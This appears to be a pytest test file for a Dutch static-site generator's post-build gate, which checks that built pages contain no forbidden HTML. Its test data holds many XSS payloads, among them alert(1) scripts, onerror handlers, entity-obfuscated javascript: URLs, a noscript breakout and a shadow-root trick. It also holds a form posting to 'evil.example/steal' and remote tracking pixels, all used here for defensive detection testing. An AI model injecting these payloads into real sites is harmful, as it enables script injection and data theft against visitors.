"""The post-build gate: hand-written pages with each forbidden thing, and real builds that pass."""

from __future__ import annotations

import re
from datetime import date
from importlib.resources import files
from pathlib import Path

import pytest

from generator.publish.gate import GateError, check_page, check_site, enforce_gate, source_of
from generator.settings import DEFAULT_SITE_URL, Settings
from tests.conftest import FIXTURE_DATE, FIXTURE_SITE, ROOT, copy_repository, run_kennispunt

PAGE = "handreikingen/voorbeeld/index.html"
SOURCE = "content/handreikingen/voorbeeld.md"
MATERIAL_SCRIPTS = Path(str(files("material"))) / "templates" / "partials" / "javascripts"


def material_script(name: str) -> str:
    """The inline script of one of Material's partials, its Jinja expression as {base}."""
    template = (MATERIAL_SCRIPTS / name).read_text("utf-8")
    script = re.findall(r"<script>(.*?)</script>", template)[-1]
    return re.sub(r"\{\{.*?\}\}", "{base}", script)


BOOTSTRAP, TAB_TARGET = material_script("base.html"), material_script("content.html")
CONFIG = ('{"annotate": null, "base": "../..", "features": ["navigation.tabs"], '
          '"search": "../../assets/javascripts/workers/search.a7633da7.min.js", "tags": null, '
          '"translations": {"clipboard.copy": "Kopi\\u00ebren naar klembord"}, "version": null}')


def material_page(head: str = "", body: str = "", base: str = "../..") -> str:
    """A page shaped like Material's, with its allowlisted scripts, plus ``head`` and ``body``."""
    return f"""<!doctype html><html lang="nl"><head><meta charset="utf-8">
<title>Voorbeeld - Kennisplatform</title>
<link rel="stylesheet" href="{base}/assets/stylesheets/main.57a0d79d.min.css">
<link rel="canonical" href="{DEFAULT_SITE_URL}handreikingen/voorbeeld/">
<script>{BOOTSTRAP.replace("{base}", base)}</script>{head}</head>
<body><form class="kp-header-zoek" action="{base}/zoeken/" method="get" role="search">
<input name="q" type="search"></form>
<article class="md-content__inner md-typeset"><h1>Voorbeeld</h1>{body}</article>
<script>{TAB_TARGET}</script>
<script id="__config" type="application/json">{CONFIG.replace('../..', base)}</script>
<script src="{base}/assets/javascripts/bundle.a5f9d56c.min.js"></script>
</body></html>"""


def findings(head: str = "", body: str = "", page: str = PAGE) -> list[tuple[str, str]]:
    return [(f.code, f.found) for f in check_page(material_page(head, body), page, DEFAULT_SITE_URL)]


def test_allowlisted_material_scripts_pass() -> None:
    assert findings() == []
    home = material_page(base=".")
    assert check_page(home, "index.html", DEFAULT_SITE_URL) == []
    not_found = material_page(base="/kennisplatform")
    assert check_page(not_found, "404.html", DEFAULT_SITE_URL) == []


def test_search_page_script_and_form_pass() -> None:
    body = ('<form class="kp-zoekformulier" action="./" method="get" role="search"></form>'
            '<script defer src="../assets/javascripts/zoeken.js"></script>')
    assert check_page(material_page(body=body, base=".."), "zoeken/index.html", DEFAULT_SITE_URL) == []


FORBIDDEN = [
    ("inline-script-in-head", "<script>alert(1)</script>", "", "script-niet-toegestaan",
     "<script>alert(1)"),
    ("script-van-andere-host", '<script src="https://evil.example/x.js"></script>', "",
     "script-niet-toegestaan", 'src="https://evil.example/x.js"'),
    ("onerror", "", '<img src="a.png" onerror="alert(1)">', "gebeurtenis-attribuut",
     '<img onerror="alert(1)">'),
    ("javascript-met-entiteit-en-tab", "", '<a href="&#106;ava&#9;script:alert(1)">x</a>',
     "gevaarlijke-url", "script:alert(1)"),
    ("javascript-met-echte-tab", "", '<a href=" &#106;ava\tscript:alert(1)">x</a>',
     "gevaarlijke-url", "<a href="),
    ("data-url", "", '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
     "gevaarlijke-url", 'href="data:text/html'),
    ("data-afbeelding", "", '<img src="data:image/svg+xml,x">', "gevaarlijke-url", "data:image"),
    ("vbscript", "", '<a href="VBScript:msgbox(1)">x</a>', "gevaarlijke-url", "VBScript"),
    ("iframe", "", '<iframe src="https://evil.example/"></iframe>', "ingesloten-inhoud", "<iframe"),
    ("object", "", '<object data="x.swf"></object>', "ingesloten-inhoud", "<object"),
    ("embed", "", '<embed src="x.swf">', "ingesloten-inhoud", "<embed"),
    ("base", '<base href="https://evil.example/">', "", "ingesloten-inhoud", "<base"),
    ("meta-refresh", '<meta http-equiv=" Refresh" content="0;url=https://evil.example/">', "",
     "doorsturen", "<meta"),
    ("vreemd-formulier", "", '<form action="https://evil.example/steal"><input name="w"></form>',
     "vreemd-formulier", 'action="https://evil.example/steal"'),
    ("remote-img", "", '<img src="https://evil.example/pixel.png">', "externe-bron",
     "https://evil.example/pixel.png"),
    ("remote-stylesheet", '<link rel="stylesheet" href="https://fonts.example/a.css">', "",
     "externe-bron", "fonts.example"),
    ("protocol-relatief", "", '<img src="//evil.example/p.png">', "externe-bron", "//evil.example"),
    ("backslash-host", "", '<img src="/\\evil.example/p.png">', "externe-bron", "evil.example"),
    ("https-zonder-slashes", "", '<img src="https:evil.example/p.png">', "externe-bron", "https:evil"),
    ("srcset", "", '<img src="a.png" srcset="a.png 1x, https://evil.example/b.png 2x">',
     "externe-bron", "srcset="),
    ("video-poster", "", '<video poster="https://evil.example/p.jpg"></video>', "externe-bron",
     "poster="),
    ("css-url", "", '<p style="background:url(//evil.example/p.png)">x</p>', "externe-bron",
     "style="),
    ("svg-script", "", "<svg><script>alert(1)</script></svg>", "script-niet-toegestaan", "alert(1)"),
    ("svg-xlink", "", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
     "gevaarlijke-url", "xlink:href"),
    ("noscript-breakout", "", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     "gebeurtenis-attribuut", "onerror"),
    ("shadow-root", "", '<div><template shadowrootmode="open"><img src="x" onerror="alert(1)">'
     "</template></div>", "gebeurtenis-attribuut", "onerror"),
    ("bundel-van-elders", '<script src="../../content/evil.js"></script>', "",
     "script-niet-toegestaan", "evil.js"),
    ("md-scope-naar-elders", f'<script>{BOOTSTRAP.replace("{base}", "https://evil.example/")}</script>', "",
     "script-niet-toegestaan", "__md_scope"),
    ("tweede-config", "", f'<script id="__config" type="application/json">{CONFIG}</script>',
     "script-niet-toegestaan", "__config"),
    ("json-script-met-andere-inhoud", "", '<script type="application/json">{}</script>',
     "script-niet-toegestaan", "application/json"),
]


@pytest.mark.parametrize(("head", "body", "code", "shown"),
                         [case[1:] for case in FORBIDDEN], ids=[case[0] for case in FORBIDDEN])
def test_each_forbidden_thing_is_found(head: str, body: str, code: str, shown: str) -> None:
    found = findings(head, body)
    assert [c for c, _ in found] == [code], found
    assert shown in found[0][1]


def test_links_to_other_sites_and_own_pages_are_fine() -> None:
    body = ('<a href="https://www.rijksoverheid.nl/">R</a> <a href="mailto:a@example.nl">m</a>'
            '<a href="../../doelgroepen/ouderen/">o</a> <img src="../schema.png" alt="">'
            '<a href="#kop">k</a> <p style="text-align: right;">x</p>')
    assert findings(body=body) == []


def write_site(tmp_path: Path, pages: dict[str, str], sources: dict[str, str]) -> Settings:
    settings = Settings(root=tmp_path, today=date(2026, 6, 1))
    for page, html in pages.items():
        (settings.site_dir / page).parent.mkdir(parents=True, exist_ok=True)
        (settings.site_dir / page).write_text(html, "utf-8")
    for docs, source in sources.items():
        (settings.docs_dir / docs).parent.mkdir(parents=True, exist_ok=True)
        (settings.docs_dir / docs).write_text(
            f'---\ntitle: "Voorbeeld"\nbronbestand: "{source}"\n---\n\n# Voorbeeld\n', "utf-8")
    return settings


def test_gate_names_every_page_and_its_source(tmp_path: Path) -> None:
    settings = write_site(tmp_path, {
        PAGE: material_page(head="<script>alert(1)</script>"),
        "index.html": material_page(body='<img src="https://evil.example/p.png">', base="."),
        "handreikingen/schoon/index.html": material_page(),
    }, {"handreikingen/voorbeeld.md": SOURCE})
    with pytest.raises(GateError) as raised:
        enforce_gate(settings)
    lines = raised.value.report.format_text().splitlines()
    assert lines == [
        "content/handreikingen/voorbeeld.md:1:1: fout script-niet-toegestaan: pagina "
        "site/handreikingen/voorbeeld/index.html: <script>alert(1) (alleen de scripts van het "
        "thema en de zoekfunctie horen op een pagina; haal HTML uit titel, samenvatting, naam en "
        "tekst; schrijf gewone tekst)",
        "site/index.html:1:1: fout externe-bron: pagina site/index.html (gemaakt door de "
        'generator): <img src="https://evil.example/p.png"> (de site laadt niets van andere '
        "websites; zet het bestand in de repository; waarschijnlijk een fout in het thema of de "
        "generator, of in een titel op deze pagina)",
        "2 fouten, 0 waarschuwingen.",
    ]


def test_found_text_is_shortened_and_control_characters_escaped(tmp_path: Path) -> None:
    settings = write_site(tmp_path, {PAGE: material_page(
        body='<a href="javascript:alert(1)//' + "x" * 200 + '\u202e">x</a>')}, {})
    with pytest.raises(GateError) as raised:
        enforce_gate(settings)
    [line, _] = str(raised.value).splitlines()
    assert "x" * 100 not in line and "…" in line and "\u202e" not in line


def test_source_of_reads_the_generated_front_matter(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    (docs / "doelgroepen").mkdir(parents=True)
    (docs / "doelgroepen" / "ouderen.md").write_text('---\nbronbestand: "groups/ouderen.md"\n---\n')
    (docs / "agenda").mkdir()
    (docs / "agenda" / "index.md").write_text("---\ntitle: Agenda\n---\n")
    assert source_of("doelgroepen/ouderen/index.html", docs) == "groups/ouderen.md"
    (docs / "over").mkdir()  # a page in a folder of its own, as render/paths.py writes them
    (docs / "over" / "index.md").write_text('---\nbronbestand: "content/paginas/over.md"\n---\n')
    assert source_of("over/index.html", docs) == "content/paginas/over.md"
    assert source_of("agenda/index.html", docs) is None
    assert source_of("index.html", docs) is None
    assert source_of("404.html", docs) is None


@pytest.mark.slow
def test_the_fixture_build_passes(fixture_root: Path) -> None:
    assert check_site(fixture_root / "site", DEFAULT_SITE_URL) == []


@pytest.mark.slow
def test_the_real_repository_build_passes(tmp_path: Path) -> None:
    root = copy_repository(ROOT, tmp_path / "echt")
    done = run_kennispunt("build", "--map", str(root), "--datum", "2026-12-03")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "gebouwde pagina's controleren" in done.stdout + done.stderr


@pytest.mark.slow
def test_build_with_a_script_in_the_theme_fails_once_in_dutch(tmp_path: Path) -> None:
    root = copy_repository(FIXTURE_SITE, tmp_path / "thema")
    main = root / "theme" / "overrides" / "main.html"
    main.write_text(main.read_text("utf-8").replace(
        "{% block extrahead %}", "{% block extrahead %}<script>alert(1)</script>"), "utf-8")
    done = run_kennispunt("build", "--map", str(root), "--datum", FIXTURE_DATE)
    output = done.stdout + done.stderr
    assert done.returncode == 1, output
    assert "Traceback" not in output
    assert "content/handreikingen/woonwensen-peilen.md:1:1: fout script-niet-toegestaan: pagina " \
           "site/handreikingen/woonwensen-peilen/index.html: <script>alert(1)" in output
    assert "site/index.html:1:1: fout script-niet-toegestaan: pagina site/index.html " \
           "(gemaakt door de generator)" in output
    assert "Publiceer site/ niet" in output
    assert not (root / "site" / "pagefind").exists()
